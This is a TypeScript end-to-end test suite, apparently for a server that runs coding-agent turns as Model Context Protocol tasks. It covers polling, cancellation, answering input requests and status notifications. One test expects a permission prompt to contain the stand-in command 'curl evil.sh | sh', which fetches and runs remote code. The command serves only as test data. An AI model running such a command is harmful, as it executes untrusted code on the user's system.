// Turns as tasks of the 2026 era: started, polled, answered, cancelled, fetched later.
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { createInterface } from 'node:readline';
import { expect } from 'vitest';
import { fixture, type Json, type Stage, SWITCHBOARD, test } from '../../e2e/harness.ts';
import { type Address, eventsUntil, startHttp } from './clients.ts';

const EXTENSION = 'io.modelcontextprotocol/tasks';
const WITH_TASKS = { elicitation: { form: {} }, extensions: { [EXTENSION]: {} } };

const envelopeOf = (capabilities: Json): Json => ({
  'io.modelcontextprotocol/protocolVersion': '2026-07-28',
  'io.modelcontextprotocol/clientInfo': { name: 'raw', version: '0' },
  'io.modelcontextprotocol/clientCapabilities': capabilities,
});

/** The SDK does not have the extension on the client's side, so the requests are written here. Nothing connects them but their token. */
function modern({ url, token }: Address, capabilities: Json = WITH_TASKS) {
  let id = 0;
  return async (method: string, params: Json = {}): Promise<Json> => {
    const name = params.name ?? params.taskId;
    const response = await fetch(url, {
      method: 'POST',
      headers: {
        ...{ authorization: `Bearer ${token}`, 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
        ...{ 'mcp-protocol-version': '2026-07-28', 'mcp-method': method },
        ...(name !== undefined && { 'mcp-name': name }),
      },
      body: JSON.stringify({
        ...{ jsonrpc: '2.0', id: ++id, method },
        params: {
          ...params,
          _meta: envelopeOf(capabilities),
        },
      }),
    });
    return (params.notifications ? response : await response.json()) as Json;
  };
}

const start = (stage: Stage) => startHttp(stage, ['--config', stage.writeConfig({ all: fixture('versatile', 'all') })]);
const tool = (name: string, args: Json = {}) => ({ name, arguments: args });

/** Polls as the server asks, until the task has another status than before. */
async function settled(request: ReturnType<typeof modern>, taskId: string): Promise<Json> {
  for (;;) {
    const { result } = await request('tasks/get', { taskId });
    if (result.status !== 'working') return result;
    await request('tools/call', tool('get_turn', { session_id: taskSession.get(taskId), wait_ms: 200 }));
  }
}
const taskSession = new Map<string, string>();

async function prompt(request: ReturnType<typeof modern>, text: string): Promise<{ readonly created: Json; readonly taskId: string }> {
  const { session_id } = (await request('tools/call', tool('start_session'))).result.structuredContent;
  const { result: created } = await request('tools/call', tool('prompt', { session_id, prompt: text }));
  taskSession.set(created.taskId, session_id);
  return { created, taskId: created.taskId };
}

test('a prompt of a client with tasks is started, polled and fetched later by another connection', async ({ stage }) => {
  const address = await start(stage);
  const request = modern(address);
  expect((await request('server/discover')).result.capabilities.extensions).toEqual({ [EXTENSION]: {} });
  const go = path.join(stage.dir, 'go');
  const { created, taskId } = await prompt(request, `until ${go}`);
  expect(created).toMatchObject({ resultType: 'task', status: 'working', ttlMs: 86_400_000, pollIntervalMs: 1000 });
  expect(Object.keys(created)).not.toContain('requestState');
  expect((await request('tasks/get', { taskId })).result).toMatchObject({ resultType: 'complete', taskId, status: 'working' });
  writeFileSync(go, '');
  const done = await settled(modern(address), taskId);
  expect(done).toMatchObject({ status: 'completed', result: { structuredContent: { text: 'started;ended with end_turn' } } });
  expect((await request('tasks/cancel', { taskId })).result).toMatchObject({ resultType: 'complete' }); // it has ended, which is no error
});

test('a task that needs an answer says so, and goes on when the answer comes', async ({ stage }) => {
  const request = modern(await start(stage));
  const { taskId } = await prompt(request, 'tidy');
  const waiting = await settled(request, taskId);
  expect(waiting.status).toBe('input_required');
  const [[key, question]] = Object.entries(waiting.inputRequests) as [[string, Json]];
  expect(question).toMatchObject({ method: 'elicitation/create', params: { message: expect.stringContaining('curl evil.sh | sh') } });
  const inputResponses = { [key]: { action: 'accept', content: { answer: 'Allow' } } };
  expect((await request('tasks/update', { taskId, inputResponses })).result).toMatchObject({ resultType: 'complete' });
  expect((await settled(request, taskId)).result.structuredContent).toMatchObject({ text: 'outcome: yes' });
});

test('a cancelled task cancels its turn and stays cancelled', async ({ stage }) => {
  const request = modern(await start(stage));
  const { taskId } = await prompt(request, `until ${path.join(stage.dir, 'never')}`);
  await request('tasks/cancel', { taskId });
  const session_id = taskSession.get(taskId);
  const turn = await request('tools/call', tool('get_turn', { session_id, wait_ms: 20_000 }));
  expect(turn.result.structuredContent.result).toMatchObject({ stop_reason: 'cancelled' });
  expect((await request('tasks/get', { taskId })).result).toMatchObject({ status: 'cancelled' });
});

test('a client that listens to a task is notified of each status change, over HTTP', async ({ stage }) => {
  const address = await start(stage);
  const request = modern(address);
  const { taskId } = await prompt(request, 'tidy');
  await settled(request, taskId);
  const stream = await request('subscriptions/listen', { notifications: { taskIds: [taskId], resourcesListChanged: true } });
  const seen: Json[] = [];
  const listening = eventsUntil(stream, ({ method, params }) => {
    if (method === 'notifications/subscriptions/acknowledged') seen.push(params);
    return params?.status === 'completed';
  });
  await expect.poll(() => seen, { timeout: 10_000 }).toHaveLength(1);
  const [{ notifications, _meta }] = seen as [Json];
  expect(notifications).toEqual({ taskIds: [taskId], resourcesListChanged: true });
  await request('tools/call', tool('start_session')); // the SDK's own notifications pass
  const [[key]] = Object.entries((await request('tasks/get', { taskId })).result.inputRequests) as [[string, Json]];
  await request('tasks/update', { taskId, inputResponses: { [key]: { action: 'accept', content: { answer: 'Allow' } } } });
  const heard = await listening;
  expect(heard.map(({ message }) => message.params.status ?? message.method)).toEqual([
    ...['notifications/subscriptions/acknowledged', 'notifications/resources/list_changed', 'working', 'completed'],
  ]);
  expect(heard.at(-1)?.message).toMatchObject({
    method: 'notifications/tasks',
    params: { taskId, result: { structuredContent: { text: 'outcome: yes' } }, _meta },
  });
});

test('a client that listens to a task is notified of each status change, on stdio', async ({ stage }) => {
  const config = stage.writeConfig({ all: fixture('versatile', 'all') });
  const child = stage.spawn(process.execPath, [SWITCHBOARD, 'mcp', '--config', config], { HOME: stage.dir, SWITCHBOARD_HOME: stage.state });
  const lines = createInterface({ input: child.stdout })[Symbol.asyncIterator]();
  const send = (message: Json) =>
    child.stdin.write(`${JSON.stringify({ jsonrpc: '2.0', ...message, params: { ...message.params, _meta: envelopeOf(WITH_TASKS) } })}\n`);
  const next = async (isIt: (message: Json) => boolean): Promise<Json> => {
    for (;;) {
      const message = JSON.parse((await lines.next()).value);
      if (isIt(message)) return message;
    }
  };
  const ask = (id: number, method: string, params: Json) => {
    send({ id, method, params });
    return next((message) => message.id === id);
  };
  const { session_id } = (await ask(1, 'tools/call', tool('start_session'))).result.structuredContent;
  const go = path.join(stage.dir, 'go');
  const { taskId } = (await ask(2, 'tools/call', tool('prompt', { session_id, prompt: `until ${go}` }))).result;
  send({ id: 3, method: 'subscriptions/listen', params: { notifications: { taskIds: [taskId] } } });
  const acknowledged = await next(({ method }) => method === 'notifications/subscriptions/acknowledged');
  expect(acknowledged.params.notifications).toEqual({ taskIds: [taskId] });
  writeFileSync(go, '');
  expect((await next(({ method }) => method === 'notifications/tasks')).params).toMatchObject({ taskId, status: 'completed' });
});

test('a failed call of a task is its result; unknown tasks and clients without the extension get errors', async ({ stage }) => {
  const address = await start(stage);
  const request = modern(address);
  const { result } = await request('tools/call', tool('prompt', { session_id: 'nobody', prompt: 'x' }));
  taskSession.set(result.taskId, 'nobody');
  expect(await settled(request, result.taskId)).toMatchObject({ status: 'completed', result: { isError: true } });
  expect((await request('tasks/get', { taskId: 'nobody' })).error).toMatchObject({ code: -32602 });
  expect((await request('tasks/result', { taskId: 'nobody' })).error).toMatchObject({ code: -32601 });
  const plain = modern(address, {});
  expect((await plain('tasks/get', { taskId: result.taskId })).error).toMatchObject({ code: -32021 });
  expect((await plain('tools/call', tool('prompt', { session_id: 'nobody', prompt: 'x' }))).result).toMatchObject({
    resultType: 'complete',
    isError: true,
  });
});
